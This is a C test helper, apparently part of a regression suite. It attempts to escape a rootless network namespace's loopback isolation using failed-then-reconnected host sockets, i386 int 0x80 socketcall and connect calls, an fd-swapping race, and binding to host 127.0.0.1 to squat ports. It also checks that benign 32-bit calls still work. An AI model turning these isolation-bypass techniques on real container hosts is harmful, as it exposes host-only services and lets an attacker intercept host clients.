// SPDX-License-Identifier: Apache-2.0
/*
 * bpattack.c - a hostile (and a 32-bit) program for root_bypass.sh: it
 * tries to get a host twin socket connected to the host's loopback under
 * --bypass4netns --disable-host-loopback, and checks that the 32-bit
 * socket calls still work when they are done for it.
 *
 *   bpattack twin IP PORT             how a twin is made (prints its state)
 *   bpattack compat IP PORT LOPORT    32-bit calls (int 0x80) on a twin
 *   bpattack race IP PORT LOPORT MS   threads swap fds and memory for MS ms
 *   bpattack works PORT               32-bit calls to namespace servers
 *   bpattack squat IP PORT LOPORT     bind a twin to the host's 127.0.0.1
 *
 * IP:PORT is outside and refuses (so the twin fails and is reconnectable
 * by the kernel); LOPORT is a server on the host's 127.0.0.1; PORT of
 * "works" is a TCP and UDP echo server on the namespace's 127.0.0.1.
 * Built by the test with cc; x86_64 only (int 0x80 is the i386 ABI).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/net.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define I386_SOCKETCALL	102
#define I386_CONNECT	362

/* sys32() - an i386 system call through int 0x80; returns -errno or >= 0 */
static long sys32(long nr, long a, long b, long c)
{
	long r;

	__asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return r;
}

/* low() - memory a 32-bit call can name */
static void *low(size_t n)
{
	void *p = mmap(NULL, n, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	if (p == MAP_FAILED) {
		perror("mmap");
		exit(2);
	}
	return p;
}

static const char *err(long r)
{
	static char b[64];

	if (r >= 0) {
		snprintf(b, sizeof(b), "%ld", r);
		return b;
	}
	return strerrorname_np((int)-r) ? strerrorname_np((int)-r) : "?";
}

static struct sockaddr_in *sin_at(const char *ip, int port)
{
	struct sockaddr_in *a = low(sizeof(*a));

	a->sin_family = AF_INET;
	a->sin_port = htons((uint16_t)port);
	inet_pton(AF_INET, ip, &a->sin_addr);
	return a;
}

/* twin() - a host twin whose connect failed: the kernel lets a failed
 * TCP socket connect again */
static int twin(const char *ip, int port)
{
	int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), e = 0;
	struct sockaddr_in *a = sin_at(ip, port);
	struct pollfd p = { .fd = s, .events = POLLOUT };
	socklen_t l = sizeof(e);

	if (connect(s, (void *)a, sizeof(*a)) < 0 && errno != EINPROGRESS) {
		printf("twin connect: %s\n", strerrorname_np(errno));
		exit(2);
	}
	poll(&p, 1, 5000);
	getsockopt(s, SOL_SOCKET, SO_ERROR, &e, &l);
	fcntl(s, F_SETFL, 0);
	return s;
}

static long sc(int call, const uint32_t *v, int n)
{
	uint32_t *a = low(64);

	memcpy(a, v, (size_t)n * sizeof(uint32_t));
	return sys32(I386_SOCKETCALL, call, (long)(uintptr_t)a, 0);
}

static int compat(const char *ip, int port, int loport)
{
	int t = twin(ip, port);
	struct sockaddr_in *lo = sin_at("127.0.0.1", loport);
	char *buf = low(16);

	/* each twice: the first may only reset a failed socket */
	for (int i = 0; i < 2; i++)
		printf("socketcall connect: %s\n",
		       err(sc(SYS_CONNECT, (uint32_t[]){ (uint32_t)t,
				(uint32_t)(uintptr_t)lo, sizeof(*lo) }, 3)));
	for (int i = 0; i < 2; i++)
		printf("i386 connect: %s\n", err(sys32(I386_CONNECT, t,
			(long)(uintptr_t)lo, sizeof(*lo))));
	for (int i = 0; i < 2; i++)
		printf("socketcall sendto fastopen: %s\n",
		       err(sc(SYS_SENDTO, (uint32_t[]){ (uint32_t)t,
				(uint32_t)(uintptr_t)buf, 1, MSG_FASTOPEN,
				(uint32_t)(uintptr_t)lo, sizeof(*lo) }, 6)));
	return 0;
}

/* ---- race -------------------------------------------------------------- */

static volatile int stop;
static int target = 100;	/* the fd number fought over */
static int twinfd;
static uint32_t *scargs;	/* socketcall args whose fd flips */

static void *swapper(void *arg)
{
	while (!stop) {
		int s = socket(AF_INET, SOCK_STREAM, 0);

		dup2(twinfd, target);
		dup2(s, target);
		close(s);
		scargs[0] = (uint32_t)twinfd;
		scargs[0] = (uint32_t)target;
	}
	return arg;
}

static void *compat_caller(void *arg)
{
	while (!stop)
		sys32(I386_SOCKETCALL, SYS_CONNECT, (long)(uintptr_t)scargs, 0);
	return arg;
}

static int race(const char *ip, int port, int loport, int ms)
{
	struct sockaddr_in *lo = sin_at("127.0.0.1", loport);
	pthread_t t1, t2;
	long n = 0;
	struct timespec end, now;

	twinfd = twin(ip, port);
	scargs = low(64);
	scargs[0] = (uint32_t)target;
	scargs[1] = (uint32_t)(uintptr_t)lo;
	scargs[2] = sizeof(*lo);
	dup2(socket(AF_INET, SOCK_STREAM, 0), target);
	pthread_create(&t1, NULL, swapper, NULL);
	pthread_create(&t2, NULL, compat_caller, NULL);
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += ms / 1000;
	end.tv_nsec += (ms % 1000) * 1000000L;
	do {
		connect(target, (void *)lo, sizeof(*lo));
		n++;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec < end.tv_sec ||
		 (now.tv_sec == end.tv_sec && now.tv_nsec < end.tv_nsec));
	stop = 1;
	pthread_join(t1, NULL);
	pthread_join(t2, NULL);
	printf("raced %ld connects\n", n);
	return 0;
}

/* ---- works --------------------------------------------------------------- */

static int works(int port)
{
	struct sockaddr_in *a = sin_at("127.0.0.1", port);
	int t = socket(AF_INET, SOCK_STREAM, 0), u = socket(AF_INET, SOCK_DGRAM, 0);
	int sp[2], pp[2];
	char *buf = low(4096), got[64];
	long r;

	r = sc(SYS_CONNECT, (uint32_t[]){ (uint32_t)t, (uint32_t)(uintptr_t)a,
					   sizeof(*a) }, 3);
	printf("tcp connect %s", err(r));
	if (r == 0 && write(t, "hi\n", 3) == 3 && read(t, got, sizeof(got)) > 0)
		printf(" echo %.2s", got);
	printf("\n");
	/* sendto: done for us, the answer comes back to our socket */
	memcpy(buf, "udp", 3);
	r = sc(SYS_SENDTO, (uint32_t[]){ (uint32_t)u, (uint32_t)(uintptr_t)buf, 3,
					  0, (uint32_t)(uintptr_t)a, sizeof(*a) }, 6);
	printf("udp sendto %s", err(r));
	memset(got, 0, sizeof(got));
	if (r == 3 && recv(u, got, sizeof(got) - 1, 0) > 0)
		printf(" echo %s", got);
	printf("\n");
	/* sendmsg with an fd: SCM_RIGHTS goes through */
	socketpair(AF_UNIX, SOCK_DGRAM, 0, sp);
	if (pipe(pp) < 0)
		return 2;
	{
		/* i386 struct msghdr, iovec and cmsghdr, all 32-bit */
		uint32_t *m = low(4096);
		uint32_t *iov = m + 16, *cm = m + 32;
		struct msghdr rm = { 0 };
		char rb[8], cb[CMSG_SPACE(sizeof(int))];
		struct iovec riov = { rb, sizeof(rb) };
		int fd = -1;

		memcpy(buf, "fd", 2);
		iov[0] = (uint32_t)(uintptr_t)buf;
		iov[1] = 2;
		cm[0] = 16;		/* len: 12 + sizeof(int) */
		cm[1] = SOL_SOCKET;
		cm[2] = SCM_RIGHTS;
		cm[3] = (uint32_t)pp[1];
		m[0] = 0; m[1] = 0;	/* name, namelen */
		m[2] = (uint32_t)(uintptr_t)iov; m[3] = 1;
		m[4] = (uint32_t)(uintptr_t)cm; m[5] = 16; m[6] = 0;
		r = sc(SYS_SENDMSG, (uint32_t[]){ (uint32_t)sp[0],
					(uint32_t)(uintptr_t)m, 0 }, 3);
		printf("sendmsg %s", err(r));
		rm.msg_iov = &riov;
		rm.msg_iovlen = 1;
		rm.msg_control = cb;
		rm.msg_controllen = sizeof(cb);
		if (r == 2 && recvmsg(sp[1], &rm, 0) == 2 && CMSG_FIRSTHDR(&rm)) {
			memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&rm)), sizeof(int));
			if (write(fd, "ok", 2) == 2 && read(pp[0], got, 2) == 2)
				printf(" passed fd %.2s", got);
		}
		printf("\n");
	}
	{
		/* sendmmsg: two datagrams, msg_len written back */
		uint32_t *mv = low(4096), *iov = mv + 32;

		memcpy(buf, "onetwo", 6);
		iov[0] = (uint32_t)(uintptr_t)buf; iov[1] = 3;
		iov[2] = (uint32_t)(uintptr_t)(buf + 3); iov[3] = 3;
		for (int i = 0; i < 2; i++) {
			uint32_t *h = mv + i * 8;

			h[0] = (uint32_t)(uintptr_t)a; h[1] = sizeof(*a);
			h[2] = (uint32_t)(uintptr_t)(iov + 2 * i); h[3] = 1;
			h[4] = 0; h[5] = 0; h[6] = 0; h[7] = 99;
		}
		r = sc(SYS_SENDMMSG, (uint32_t[]){ (uint32_t)u,
				(uint32_t)(uintptr_t)mv, 2, 0 }, 4);
		printf("sendmmsg %s lens %u %u\n", err(r), mv[7], mv[15]);
	}
	return 0;
}

/* squat() - a twin reset by shutdown() bound to the host's loopback
 * (native and int 0x80) would take host clients of that port */
static int squat(const char *ip, int port, int loport)
{
	int t = twin(ip, port);
	struct sockaddr_in *lo = sin_at("127.0.0.1", loport);

	shutdown(t, SHUT_RDWR);
	printf("bind: %s\n", bind(t, (void *)lo, sizeof(*lo)) < 0 ?
	       strerrorname_np(errno) : "0");
	printf("socketcall bind: %s\n", err(sc(SYS_BIND, (uint32_t[]){ (uint32_t)t,
			(uint32_t)(uintptr_t)lo, sizeof(*lo) }, 3)));
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && !strcmp(argv[1], "twin")) {
		int t = twin(argv[2], atoi(argv[3]));
		struct sockaddr_in *lo = sin_at("127.0.0.1", 9);

		printf("native connect: %s\n", connect(t, (void *)lo, sizeof(*lo)) < 0 ?
		       strerrorname_np(errno) : "0");
		return 0;
	}
	if (argc == 5 && !strcmp(argv[1], "compat"))
		return compat(argv[2], atoi(argv[3]), atoi(argv[4]));
	if (argc == 6 && !strcmp(argv[1], "race"))
		return race(argv[2], atoi(argv[3]), atoi(argv[4]), atoi(argv[5]));
	if (argc == 5 && !strcmp(argv[1], "squat"))
		return squat(argv[2], atoi(argv[3]), atoi(argv[4]));
	if (argc == 3 && !strcmp(argv[1], "works"))
		return works(atoi(argv[2]));
	fprintf(stderr, "usage: see the header\n");
	return 2;
}
